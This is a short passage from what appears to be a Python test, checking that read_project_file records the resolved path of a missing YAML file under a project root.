        read_project_file(root / "data" / "missing" / "a.yaml", root)
    assert resolved[-1] == str(root / "data" / "missing" / "a.yaml")
